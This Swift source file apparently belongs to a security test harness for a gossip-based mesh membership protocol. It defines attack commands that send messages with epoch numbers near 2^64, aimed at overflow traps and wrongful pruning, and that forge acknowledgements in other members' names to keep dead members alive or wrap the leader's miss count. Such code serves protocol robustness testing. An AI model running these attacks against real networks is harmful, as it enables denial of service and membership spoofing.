import ArgumentParser
import Foundation
import GossipCRDT
import MeshCore

/// Epoch numbers at the very top of the 64-bit range: a receiver that adopts one and later adds 1
/// to it traps, and one that compares with wrapping arithmetic prunes everybody.
struct EpochOverflow: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "epoch-overflow", abstract: "Heartbeats, probes and digests with epochs near 2^64.")

    @OptionGroup var options: AttackOptions

    @Option(parsing: .upToNextOption, help: "Other members' keys (base64) to name as the epoch's leader.")
    var leaders: [String] = []

    func run() throws {
        let context = try options.context()
        let named = [context.me.nodeID] + (try nodeIDs(leaders))
        for number in [UInt64.max - 1, UInt64.max] {
            for leader in named {
                let stamp = EpochStamp(leader: leader, number: number)
                let messages: [GossipMessage] = [
                    .heartbeat(Heartbeat(epoch: stamp)), .probe(stamp), Forge.digest(epoch: stamp),
                ]
                for message in messages { try context.send(message) }
                var line = context.replies(quietFor: 150)
                line["sent"] = messages.map(\.kind)
                line["epoch"] = String(number)
                line["leader"] = leader.base64
                line["attack"] = "epoch-overflow"
                report(line)
            }
        }
    }
}

/// Acknowledgements in other members' names, sent to the leader: they keep a dead member alive
/// (current and future epochs) or, at 2^64-1, make the leader's miss count wrap.
struct ForgeAcks: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "forge-acks", abstract: "Acks with a forged sender, to the leader, for several epochs.")

    @OptionGroup var options: AttackOptions

    @Option(name: .customLong("as"), parsing: .upToNextOption, help: "Members (base64 keys) to ack for.")
    var members: [String] = []

    @Option(parsing: .upToNextOption, help: "Members (base64 keys) to send 2^64-1 acks for.")
    var overflowAs: [String] = []

    @Option(help: "How long to keep forging, so a dead member would stay alive that long.")
    var seconds: Double = 8

    func run() throws {
        let context = try options.context()
        guard let leader = context.targetID else { throw ValidationError("--to-key (the leader's key) is required") }
        let alive = try nodeIDs(members)
        let wrapped = try nodeIDs(overflowAs)
        let deadline = Date().addingTimeInterval(seconds)
        var rounds = 0
        var current: UInt64 = 0
        while Date() < deadline {
            current = max(current, learnEpoch(context, leader: leader).number ?? current)
            for member in alive {
                for number in [current, current + 1, current + 1000] {
                    try context.forge(
                        .ack(Ack(epoch: EpochStamp(leader: leader, number: number))), claiming: member)
                }
            }
            for member in wrapped {
                let stamp = EpochStamp(leader: leader, number: .max)
                try context.forge(.ack(Ack(epoch: stamp)), claiming: member)
            }
            rounds += 1
            Thread.sleep(forTimeInterval: 0.2)
        }
        report([
            "attack": "forge-acks", "leader": leader.base64, "kept": alive.map(\.base64),
            "overflowed": wrapped.map(\.base64), "rounds": rounds, "lastEpoch": String(current),
            "sentFrames": context.port.sentFrames, "sentBytes": context.port.sentBytes,
        ])
    }
}

/// Asks the leader for its epoch the way any member could: a digest without one, which the
/// receiver corrects with a heartbeat. The newest number seen (in a heartbeat or a digest), and
/// the newest signed heartbeat when one came.
func learnEpoch(_ context: AttackContext, leader: NodeID) -> (number: UInt64?, heartbeat: Heartbeat?) {
    try? context.send(Forge.digest(count: 0))
    var best: UInt64?
    var signed: Heartbeat?
    for frame in context.port.receiveAll(quietFor: 100) {
        guard let opened = context.wire.open(frame) else { continue }
        switch opened.message {
        case .heartbeat(let heartbeat) where heartbeat.epoch.leader == leader:
            best = max(best ?? 0, heartbeat.epoch.number)
            if heartbeat.epoch.number >= signed?.epoch.number ?? 0 { signed = heartbeat }
        case .digest(let digest) where digest.epoch?.leader == leader:
            best = max(best ?? 0, digest.epoch!.number)
        default: continue
        }
    }
    return (best, signed)
}
